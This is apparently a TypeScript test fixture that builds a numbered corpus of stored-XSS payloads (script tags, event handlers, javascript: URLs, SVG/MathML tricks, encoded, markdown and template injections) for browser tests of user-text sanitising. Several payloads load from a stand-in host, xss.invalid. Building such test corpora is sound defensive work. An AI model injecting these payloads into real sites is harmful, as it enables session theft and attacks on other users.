// Stored-XSS payloads for every text field a user writes and others (or they) see. Each one,
// if it ever ran, would call a sink the browser tests watch: alert(n), window.__xss(n), or a
// request to https://xss.invalid/n. Each carries the text "xss-<n>" (usually as id="xss-<n>"
// or data-xss="xss-<n>"), so an element it injected can be found in the DOM and its words can
// be found on the page. Template strings must show literally, never "49".

export type PayloadKind = 'script' | 'event-handler' | 'url' | 'svg-mathml' | 'css' | 'embedded' | 'malformed' | 'encoded' | 'markdown' | 'template';

export interface XssPayload {
  /** 1-based, the number its sink reports. */
  n: number;
  kind: PayloadKind;
  text: string;
  /** "xss-<n>": in the payload's text, and the id or data-xss value an injected element would carry. */
  marker: string;
}

/** The origin every payload's request would go to; a browser must never ask it for anything. */
export const XSS_ORIGIN = 'https://xss.invalid';
/** What a rendered template expression would show instead of its source. */
export const EVALUATED_TEMPLATE = '49';

type Maker = [PayloadKind, (n: number, m: string) => string];

const MAKERS: Maker[] = [
  // <script> in its many spellings.
  ['script', (n, m) => `<script id="${m}">alert(${n})</script>`],
  ['script', (n, m) => `<ScRiPt data-xss="${m}">window.__xss(${n})</sCrIpT>`],
  ['script', (n, m) => `<scr<script>ipt data-xss=${m}>alert(${n})</scr</script>ipt>`],
  ['script', (n, m) => `</script><script data-xss=${m}>alert(${n})</script>`],
  ['script', (n, m) => `<script src="${XSS_ORIGIN}/${n}" data-xss=${m}></script>`],
  ['script', (n, m) => `"><script data-xss=${m}>alert(${n})</script>`],
  ['script', (n, m) => `';alert(${n});//${m}`],
  ['script', (n, m) => `</title></textarea><script id=${m}>alert(${n})</script>`],
  // Event handlers.
  ['event-handler', (n, m) => `<img src=x onerror=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<img src="${XSS_ORIGIN}/${n}" id="${m}">`],
  ['event-handler', (n, m) => `<svg onload=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<body onload=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<details open ontoggle=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<input autofocus onfocus=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<div onmouseover="alert(${n})" id=${m}>hover</div>`],
  ['event-handler', (n, m) => `<video><source onerror="window.__xss(${n})" data-xss=${m}></video>`],
  ['event-handler', (n, m) => `<audio src=x onerror=alert(${n}) data-xss=${m}>`],
  ['event-handler', (n, m) => `<select autofocus onfocus=alert(${n}) data-xss=${m}></select>`],
  ['event-handler', (n, m) => `" onmouseover="alert(${n})" data-xss="${m}`],
  ['event-handler', (n, m) => `<x onclick=alert(${n}) id=${m}>click me`],
  // javascript:, data: and vbscript: URLs.
  ['url', (n, m) => `<a href="javascript:alert(${n})" id=${m}>link</a>`],
  ['url', (n, m) => `<a href="JaVaScRiPt:alert(${n})" data-xss=${m}>link</a>`],
  ['url', (n, m) => `<a href="java&#x09;script:alert(${n})" data-xss=${m}>link</a>`],
  ['url', (n, m) => `<a href="data:text/html,<script>alert(${n})</script>" data-xss=${m}>x</a>`],
  ['url', (n, m) => `<a href="vbscript:msgbox(${n})" data-xss=${m}>x</a>`],
  ['url', (n, m) => `<iframe src="javascript:alert(${n})" data-xss=${m}></iframe>`],
  ['url', (n, m) => `<iframe srcdoc="<script>parent.alert(${n})</script>" data-xss=${m}></iframe>`],
  ['url', (n, m) => `<form data-xss=${m}><button formaction="javascript:alert(${n})">go</button></form>`],
  ['url', (n, m) => `<form action="${XSS_ORIGIN}/${n}" id=${m}><input type=submit></form>`],
  ['url', (n, m) => `javascript:alert(${n})//${m}`],
  ['url', (n, m) => `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#${m}`],
  // <iframe>, <object>, <embed>, <base>, <meta>, <link>.
  ['embedded', (n, m) => `<object data="javascript:alert(${n})" data-xss=${m}></object>`],
  ['embedded', (n, m) => `<embed src="javascript:alert(${n})" data-xss=${m}>`],
  ['embedded', (n, m) => `<base href="${XSS_ORIGIN}/${n}/" data-xss=${m}>`],
  ['embedded', (n, m) => `<meta http-equiv="refresh" content="0;url=javascript:alert(${n})" data-xss=${m}>`],
  ['embedded', (n, m) => `<link rel=stylesheet href="${XSS_ORIGIN}/${n}.css" data-xss=${m}>`],
  ['embedded', (n, m) => `<iframe src="${XSS_ORIGIN}/${n}" id=${m}></iframe>`],
  // SVG and MathML, namespace confusion included.
  ['svg-mathml', (n, m) => `<svg><script data-xss=${m}>alert(${n})</script></svg>`],
  ['svg-mathml', (n, m) => `<svg><a xlink:href="javascript:alert(${n})" data-xss=${m}><text>x</text></a></svg>`],
  ['svg-mathml', (n, m) => `<svg><animate onbegin=alert(${n}) attributeName=x dur=1s data-xss=${m}>`],
  ['svg-mathml', (n, m) => `<math><mtext><table><mglyph><style><img src=x onerror=alert(${n}) data-xss=${m}>`],
  ['svg-mathml', (n, m) => `<math><mi xlink:href="javascript:alert(${n})" data-xss=${m}>x</mi></math>`],
  ['svg-mathml', (n, m) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(${n}) data-xss=${m}>`],
  ['svg-mathml', (n, m) => `<svg><foreignObject><iframe srcdoc="<script>alert(${n})</script>" data-xss=${m}>`],
  // CSS.
  ['css', (n, m) => `<style>@import '${XSS_ORIGIN}/${n}.css';</style><b data-xss=${m}>b</b>`],
  ['css', (n, m) => `<div style="width:expression(alert(${n}))" data-xss=${m}>`],
  ['css', (n, m) => `<div style="background:url('${XSS_ORIGIN}/${n}')" id=${m}>`],
  ['css', (n, m) => `<style>*{background:url(javascript:alert(${n}))}</style><i id=${m}>i</i>`],
  // Malformed, nested, unclosed.
  ['malformed', (n, m) => `<<img src=x onerror=alert(${n}) data-xss=${m}//<`],
  ['malformed', (n, m) => `<img src="x" onerror="alert(${n})" data-xss="${m}"`],
  ['malformed', (n, m) => `<img src='x onerror=alert(${n}) data-xss=${m}`],
  ['malformed', (n, m) => `<a title="</a><img src=x onerror=alert(${n}) data-xss=${m}>">`],
  ['malformed', (n, m) => `<noscript><p title="</noscript><img src=x onerror=alert(${n}) data-xss=${m}>">`],
  ['malformed', (n, m) => `<!--<img src="--><img src=x onerror=alert(${n}) data-xss=${m}>-->`],
  ['malformed', (n, m) => `<div><div <img src=x onerror=alert(${n}) data-xss=${m}>></div>`],
  // Entity-, URL- and double-encoded.
  ['encoded', (n, m) => `&lt;img src=x onerror=alert(${n}) data-xss=${m}&gt;`],
  ['encoded', (n, m) => `&#x3C;script data-xss=${m}&#x3E;alert(${n})&#x3C;/script&#x3E;`],
  ['encoded', (n, m) => `&#60img src=x onerror=alert(${n}) data-xss=${m}&#62`],
  ['encoded', (n, m) => `%3Cscript%20data-xss%3D${m}%3Ealert(${n})%3C%2Fscript%3E`],
  ['encoded', (n, m) => `%253Cimg%2520src%253Dx%2520onerror%253Dalert(${n})%2520id%253D${m}%253E`],
  ['encoded', (n, m) => `\\u003cimg src=x onerror=alert(${n}) data-xss=${m}\\u003e`],
  // Markdown link and image injections.
  ['markdown', (n, m) => `[${m}](javascript:alert(${n}))`],
  ['markdown', (n, m) => `![${m}](x" onerror="alert(${n}))`],
  ['markdown', (n, m) => `[${m}](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`],
  ['markdown', (n, m) => `<${XSS_ORIGIN}/${n}> [${m}](${XSS_ORIGIN}/${n} "t")`],
  ['markdown', (n, m) => `[${m}]: javascript:alert(${n})`],
  // Template injection: shown as written.
  ['template', (_n, m) => `{{7*7}} ${m}`],
  ['template', (_n, m) => `\${7*7} ${m}`],
  ['template', (_n, m) => `<%= 7*7 %> ${m}`],
  ['template', (n, m) => `{{constructor.constructor('alert(${n})')()}} ${m}`],
  ['template', (_n, m) => `#{7*7} ${m}`],
];

export const XSS_CORPUS: readonly XssPayload[] = MAKERS.map(([kind, make], i) => {
  const n = i + 1;
  const marker = `xss-${n}`;
  return { n, kind, text: make(n, marker), marker };
});

/** The payloads of the template kind, whose marker must never follow an evaluated "49". */
export const TEMPLATE_PAYLOADS = XSS_CORPUS.filter((p) => p.kind === 'template');

/**
 * The corpus packed into values of at most `max` characters, each value holding whole
 * payloads joined by `separator`, in order, starting at payload `offset` (so fields that pack
 * from different offsets carry different payloads at the same time).
 */
export function packCorpus(max: number, separator = ' ', offset = 0, corpus: readonly XssPayload[] = XSS_CORPUS): XssPayload[][] {
  const rotated = [...corpus.slice(offset % corpus.length), ...corpus.slice(0, offset % corpus.length)];
  const values: XssPayload[][] = [];
  let current: XssPayload[] = [];
  let length = 0;
  for (const payload of rotated) {
    if (payload.text.length > max) throw new Error(`Payload ${payload.n} is longer than ${max} characters`);
    const added = current.length === 0 ? payload.text.length : length + separator.length + payload.text.length;
    if (added > max) {
      values.push(current);
      current = [payload];
      length = payload.text.length;
    } else {
      current.push(payload);
      length = added;
    }
  }
  if (current.length > 0) values.push(current);
  return values;
}

/** The text of packed payloads. */
export const joinPayloads = (payloads: readonly XssPayload[], separator = ' ') => payloads.map((p) => p.text).join(separator);

/**
 * For fields that only take an e-mail address: what an address may hold that breaks out of an
 * attribute or a string (quotes, plus, hyphens), each with its marker. Numbered from 1001.
 */
export const EMAIL_PAYLOADS: readonly XssPayload[] = [
  `xss-1001'onmouseover'alert-1001@xss.invalid`,
  `'-alert-1002-'xss-1002@xss.invalid`,
  `xss-1003+'--'+@xss.invalid`,
  `o'neil'+xss-1004@xss.invalid`,
  `xss-1005'_'onerror'_x@xss.invalid`,
  `xss-1006'+'+'x@a-b.xss.invalid`,
].map((text, i) => ({ n: 1001 + i, kind: 'url' as const, text, marker: `xss-${1001 + i}` }));
